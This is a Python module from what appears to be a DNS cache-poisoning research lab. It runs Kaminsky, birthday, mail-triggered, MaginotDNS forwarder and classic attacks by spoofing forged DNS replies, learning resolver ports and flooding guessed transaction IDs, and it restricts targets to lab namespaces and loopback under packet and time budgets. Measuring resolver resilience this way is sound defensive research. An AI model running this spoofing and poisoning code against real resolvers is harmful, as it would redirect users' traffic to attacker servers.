"""The attacker of the real-packet lab: one trial of one attack with spoofed datagrams.

Runs inside the attacker's network namespace (`python -m poisonproof.lab.real_attacker
JSON`): learns the resolver's query port if it is not told (it makes the resolver ask the
attacker's own zone and reads the port from its server's query log), then, attempt by
attempt, triggers a lookup and floods forged replies (the real server's address as
source, the guessed port, a new set of IDs per window) through a raw socket, and checks,
as a victim would, whether the resolver now sends the victim zone to the attacker. The
attacks are the simulated lab's (`attacks.AttackName`): `kaminsky` (a fresh random name
under the victim zone, forged referral or answer), `birthday` (the same, triggered by
many identical questions at once), `mail` (the lookup is made by the lab's mail service,
`real_mail`, for the MX the attacker's zone names; the flood starts when the MX question
reaches the attacker's own server), `forwarder` (MaginotDNS: race the resolver's question
to its conditional forwarder with an answer that also carries the victim zone's NS set)
and `classic` (race `www.bank.example` itself: one try per TTL, as the real answer is
cached otherwise). Prints one JSON object with the result.
Must never: send to an address outside the lab's namespaces or loopback (every target
goes through `check_target`), or run without a packet and time budget.
"""

from __future__ import annotations

import ipaddress
import json
import random
import socket
import sys
import time
from dataclasses import asdict, dataclass, field
from pathlib import Path

import dns.flags
import dns.message
import dns.name
import dns.rcode
import dns.rdatatype
import dns.rrset

from poisonproof.lab.guesses import GuessSequence
from poisonproof.lab.netns import LAB_SUBNET
from poisonproof.lab.spoofer import ReplyTemplate, Spoofer, check_target
from poisonproof.lab.theory import ID_SPACE

TRIGGER_LEAD = 0.002
"""Seconds between the trigger query and the first forged reply (the resolver's own query
to the victim's server must be out before a forgery can match it)."""


@dataclass(frozen=True)
class AttackerJob:
    resolver: str
    victim_servers: tuple[str, ...]
    attacker: str
    attacker_log: str
    """The query log of the attacker's own authoritative server (to learn the port)."""
    port: int | None
    """The resolver's query source port, when the attacker is told it (SEED-style)."""
    rate: float
    """Forged replies per second; the packets per window is rate x window (paced at this
    rate, or sent at once and the rest of the window waited out: `paced`)."""
    window: float
    budget_packets: int
    budget_seconds: float
    seed: int
    victim_zone: str = "bank.example."
    attacker_zone: str = "attacker.example."
    attacker_ns: str = "ns.attacker.example."
    www: str = "www.bank.example."
    resolver_port: int = 53
    server_port: int = 53
    """The port the real servers (victim, forwarder) answer on: the forged replies' source."""
    """The port the resolver answers clients on (53 in the namespace lab; an audited
    resolver on loopback may use another)."""
    stop_at_first_win: bool = False
    """Stop when a forged reply is first accepted (to measure the race alone)."""
    attack: str = "kaminsky"
    """kaminsky, birthday, mail, forwarder or classic (see the module docstring)."""
    mail: str | None = None
    """`mail`: the lab mail service's address (it takes a domain per datagram, port 25)."""
    forwarder: str | None = None
    """`forwarder`: the resolver's conditional forwarder (the forged replies' source)."""
    forwarded_zone: str = "corp.example."
    ttl: float = 300.0
    """`classic`: the real answer's TTL (the attacker waits it out between tries)."""
    duplicates: int = 100
    """`birthday`: identical questions per attempt."""
    mail_names: int = 400
    """`mail`: m0 .. m<N-1>.attacker.example have an MX in the victim zone."""
    port_oracle: str | None = None
    """A query log of the real server (the victim's), read for each trigger's source port:
    a side channel that tells the attacker the port of every upstream query (as SAD DNS
    infers it), so the flood always lands on the open socket. None: one port, told or
    learned (`port`)."""
    paced: bool = True
    """Spread each window's forged replies evenly at `rate` (RFC 5452's R); False: send
    them as fast as the kernel takes them and wait out the rest of the window."""
    forgery: str = "referral"
    """`referral`: a delegation of the victim zone to the attacker's server, with glue (what
    a pre-2008 resolver believed); `answer`: an authoritative answer for the random name
    plus the victim zone's NS set pointing at the attacker's server, no glue (the SEED Labs
    Kaminsky reply: the server name resolves through the attacker's real delegation)."""


@dataclass
class AttackerResult:
    success: bool = False
    attempts: int = 0
    packets: int = 0
    seconds: float = 0.0
    flood_seconds: float = 0.0
    port: int | None = None
    port_learned: bool = False
    victim_sees: list[str] = field(default_factory=list)
    first_win_attempt: int | None = None
    """The attempt (window) in which a forged reply was first accepted."""
    answers_won: int = 0
    """Windows where the resolver took a forged reply (the trigger got the attacker's address)."""
    delegation_kept: int = 0
    """Of those: windows after which the victim zone's real delegation was still used
    (a forged answer accepted, the forged NS set not: e.g. Unbound's scrubbing)."""
    trigger_rtts: list[float] = field(default_factory=list)
    """Seconds from each trigger to the resolver's answer to it (window + overheads)."""
    errors: int = 0
    note: str = ""


def _in_lab(address: str) -> bool:
    """The lab's namespaces or loopback: the only places attack traffic may go."""
    ip = ipaddress.ip_address(address)
    return ip in LAB_SUBNET or ip.is_loopback


ATTACKS = ("kaminsky", "birthday", "mail", "forwarder", "classic")


def forged_reply(qname: dns.name.Name, job: AttackerJob) -> bytes:
    """The forged reply to `qname A` (ID 0), as `job.attack` and `job.forgery` say."""
    query = dns.message.make_query(qname, "A")
    reply = dns.message.make_response(query)
    reply.id = 0
    reply.authority = [dns.rrset.from_text(job.victim_zone, 86400, "IN", "NS", job.attacker_ns)]
    if job.attack == "classic":
        # the pre-2008 race: an authoritative answer for www itself
        reply.flags |= dns.flags.AA
        reply.answer = [dns.rrset.from_text(qname, 86400, "IN", "A", job.attacker)]
        reply.authority = []
    elif job.attack == "forwarder":
        # a forwarder's (recursive) answer that also hands over the victim zone
        reply.flags |= dns.flags.RA
        reply.answer = [dns.rrset.from_text(qname, 300, "IN", "A", job.attacker)]
        reply.additional = [dns.rrset.from_text(job.attacker_ns, 86400, "IN", "A", job.attacker)]
    elif job.forgery == "answer":
        reply.flags |= dns.flags.AA
        reply.answer = [dns.rrset.from_text(qname, 86400, "IN", "A", job.attacker)]
    else:
        reply.flags &= ~dns.flags.AA
        reply.additional = [dns.rrset.from_text(job.attacker_ns, 86400, "IN", "A", job.attacker)]
    return reply.to_wire()


class Client:
    """The attacker's own plain DNS client (it may query the resolver, as Kaminsky's could)."""

    def __init__(self, source: str, resolver: str, port: int = 53) -> None:
        check_target(resolver, _in_lab)
        self.resolver = resolver
        self.port = port
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.sock.bind((source, 0))

    def wait_any(self, txids: list[int], timeout: float) -> list[dns.message.Message]:
        """Every answer to one of `txids` that arrives within `timeout` (stops when all
        have come)."""
        pending = set(txids)
        answers: list[dns.message.Message] = []
        deadline = time.monotonic() + timeout
        while pending and (left := deadline - time.monotonic()) > 0:
            message = self.wait_for(pending, left)
            if message is None:
                break
            pending.discard(message.id)
            answers.append(message)
        return answers

    def send(self, name: str, rdtype: str = "A") -> int:
        query = dns.message.make_query(name, rdtype)
        self.sock.sendto(query.to_wire(), (self.resolver, self.port))
        return query.id

    def wait(self, txid: int, timeout: float) -> dns.message.Message | None:
        return self.wait_for({txid}, timeout)

    def wait_for(self, txids: set[int], timeout: float) -> dns.message.Message | None:
        deadline = time.monotonic() + timeout
        while (left := deadline - time.monotonic()) > 0:
            self.sock.settimeout(left)
            try:
                data, _ = self.sock.recvfrom(65535)
            except TimeoutError:
                return None
            try:
                message = dns.message.from_wire(data)
            except Exception:
                continue
            if message.id in txids:
                return message
        return None

    def ask(self, name: str, rdtype: str = "A", timeout: float = 3.0) -> dns.message.Message | None:
        return self.wait(self.send(name, rdtype), timeout)

    def close(self) -> None:
        self.sock.close()


def addresses(message: dns.message.Message | None, name: str) -> list[str]:
    if message is None:
        return []
    owner = dns.name.from_text(name)
    return sorted(
        r.address  # type: ignore[attr-defined]
        for rrset in message.answer
        if rrset.rdtype == dns.rdatatype.A and rrset.name == owner
        for r in rrset
    )


class LogTail:
    """New JSON lines of a query log since the last read (the log only grows)."""

    def __init__(self, path: Path) -> None:
        self.path = path
        self.offset = path.stat().st_size if path.exists() else 0

    def lines(self) -> list[dict[str, object]]:
        if not self.path.exists():
            return []
        with self.path.open("rb") as handle:
            handle.seek(self.offset)
            data = handle.read()
        end = data.rfind(b"\n") + 1  # a line still being written waits for the next read
        self.offset += end
        return [json.loads(line) for line in data[:end].splitlines() if line.strip()]


def wait_logged(
    tail: LogTail, qname: str, timeout: float, qtype: str | None = None, step: float = 0.0005
) -> dict[str, object] | None:
    """The first new log record of a query for `qname` (lowercase; of type `qtype` if
    given), or None when none came within `timeout`."""
    want = None if qtype is None else int(dns.rdatatype.from_text(qtype))
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        for record in tail.lines():
            if str(record.get("qname", "")).lower() == qname and (
                want is None or record.get("qtype") == want
            ):
                return record
        time.sleep(step)
    return None


def learn_port(
    client: Client,
    log: Path,
    rng: random.Random,
    timeout: float = 3.0,
    zone: str = "attacker.example.",
) -> int | None:
    """Make the resolver ask the attacker's zone; its source port is in the attacker's log."""
    probe = f"p{rng.getrandbits(32):08x}.{zone}"
    tail = LogTail(log)
    client.ask(probe, timeout=timeout)
    record = wait_logged(tail, probe, timeout, step=0.01)
    return None if record is None else int(record["port"])  # type: ignore[call-overload]


def oracle_port(tail: LogTail, qname: str, timeout: float) -> int | None:
    """The source port of the resolver's query for `qname`, once the server logged it."""
    record = wait_logged(tail, qname, timeout)
    return None if record is None else int(record["port"])  # type: ignore[call-overload]


def trigger_mail(job: AttackerJob, index: int, timeout: float = 3.0) -> bool:
    """Mail to m<index>.attacker.example; True once its MX question reached the attacker's
    server (the A lookup of x<index>.bank.example follows: flood now)."""
    assert job.mail is not None
    check_target(job.mail, _in_lab)
    domain = f"m{index}.{job.attacker_zone}"
    tail = LogTail(Path(job.attacker_log))
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.bind((job.attacker, 0))
        sock.sendto(domain.rstrip(".").encode(), (job.mail, 25))
    return wait_logged(tail, domain, timeout, qtype="MX") is not None


def attack_name(job: AttackerJob, rng: random.Random, attempt: int) -> dns.name.Name:
    """The name the resolver is made to look up in this attempt."""
    if job.attack == "classic":
        return dns.name.from_text(job.www)
    if job.attack == "forwarder":
        return dns.name.from_text(f"x{rng.getrandbits(32):08x}.{job.forwarded_zone}")
    if job.attack == "mail":
        return dns.name.from_text(f"x{attempt - 1:05d}.{job.victim_zone}")
    return dns.name.from_text(f"x{rng.getrandbits(32):08x}.{job.victim_zone}")


def run(job: AttackerJob) -> AttackerResult:
    if job.attack not in ATTACKS:
        raise ValueError(f"attack {job.attack!r}: expected one of {', '.join(ATTACKS)}")
    sources = [job.forwarder] if job.attack == "forwarder" else list(job.victim_servers)
    if any(source is None for source in sources) or (job.attack == "mail" and not job.mail):
        raise ValueError(f"attack {job.attack!r} needs its lab host (forwarder or mail)")
    for address in (job.resolver, *sources):
        check_target(str(address), _in_lab)
    rng = random.Random(job.seed)
    result = AttackerResult(port=job.port)
    client = Client(job.attacker, job.resolver, job.resolver_port)
    started = time.monotonic()

    def time_left() -> float:
        return job.budget_seconds - (time.monotonic() - started)

    try:
        oracle = LogTail(Path(job.port_oracle)) if job.port_oracle else None
        if result.port is None and oracle is None:
            result.port = learn_port(client, Path(job.attacker_log), rng, zone=job.attacker_zone)
            result.port_learned = result.port is not None
        if result.port is None and oracle is None:
            result.note = "could not learn the resolver's query port"
            return result
        per_window = max(1, int(job.rate * job.window))
        spoofers = [
            Spoofer((str(source), job.server_port), job.resolver, allowed=_in_lab)
            for source in sources
        ]
        try:
            while result.packets < job.budget_packets and time_left() > 0:
                if job.attack == "mail" and result.attempts >= job.mail_names:
                    result.note = "every mail name of the attacker's zone is used"
                    break
                result.attempts += 1
                qname = attack_name(job, rng, result.attempts)
                template = ReplyTemplate(forged_reply(qname, job))
                trigger_sent = time.monotonic()
                txids: list[int] = []
                if job.attack == "mail":
                    if not trigger_mail(job, result.attempts - 1):
                        result.note = "the mail service's MX lookup never reached us"
                        continue
                else:
                    copies = job.duplicates if job.attack == "birthday" else 1
                    txids = [client.send(qname.to_text()) for _ in range(copies)]
                if oracle is not None:
                    port = oracle_port(oracle, qname.to_text().lower(), job.window)
                    if port is None:  # answered from the cache, or asked over TCP
                        client.wait_any(txids, job.window + 2.0)
                        continue
                    result.port = port
                else:
                    time.sleep(TRIGGER_LEAD)
                assert result.port is not None
                sequence = GuessSequence.random(ID_SPACE, rng)
                count = min(per_window, job.budget_packets - result.packets)
                # N servers: the guesses are shared among them (the resolver picks one)
                share = max(1, count // len(spoofers))
                for index, spoofer in enumerate(spoofers):
                    ids = [sequence.value(j) for j in range(index * share, (index + 1) * share)]
                    stats = spoofer.flood(
                        template,
                        [result.port],
                        ids,
                        max_packets=len(ids),
                        max_seconds=max(job.window, 0.05) * 2,
                        # one server after the other, each its share at the full rate
                        pace=job.rate if job.paced else None,
                    )
                    result.packets += stats.packets
                    result.flood_seconds += stats.seconds
                    result.errors += stats.errors
                if txids:
                    answers = client.wait_any(txids, job.window + 2.0)
                    if answers:
                        result.trigger_rtts.append(round(time.monotonic() - trigger_sent, 6))
                else:
                    # mail: the attacker sees no answer; the harness asks what is cached now
                    time.sleep(job.window + 0.05)
                    answers = [m for m in [client.ask(qname.to_text())] if m is not None]
                # a won race shows in the trigger's own answer; a fresh name then shows
                # whether the delegation is now the attacker's (www is not asked during the
                # attack: a cached real answer would hide a poisoned delegation)
                if any(job.attacker in addresses(a, qname.to_text()) for a in answers):
                    result.answers_won += 1
                    if result.first_win_attempt is None:
                        result.first_win_attempt = result.attempts
                    if job.stop_at_first_win or job.attack == "classic":
                        result.success = job.attack == "classic"
                        break
                    fresh = f"y{rng.getrandbits(32):08x}.{job.victim_zone}"
                    if job.attacker in addresses(client.ask(fresh), fresh):
                        result.success = True
                        break
                    result.delegation_kept += 1
                if job.attack == "classic":
                    # the real answer is cached for its TTL: the next race is after it
                    if time_left() < job.ttl + 1:
                        result.note = f"the next try waits out the {job.ttl:g} s TTL: no budget"
                        break
                    time.sleep(job.ttl + 0.5)
            result.victim_sees = addresses(client.ask(job.www), job.www)
        finally:
            for spoofer in spoofers:
                spoofer.close()
    finally:
        client.close()
        result.seconds = round(time.monotonic() - started, 6)
    return result


def main(argv: list[str] | None = None) -> int:
    args = sys.argv[1:] if argv is None else argv
    if len(args) != 1:
        print("usage: python -m poisonproof.lab.real_attacker JOB_JSON", file=sys.stderr)
        return 2
    raw = json.loads(args[0])
    raw["victim_servers"] = tuple(raw["victim_servers"])
    result = run(AttackerJob(**raw))
    print(json.dumps(asdict(result)))
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
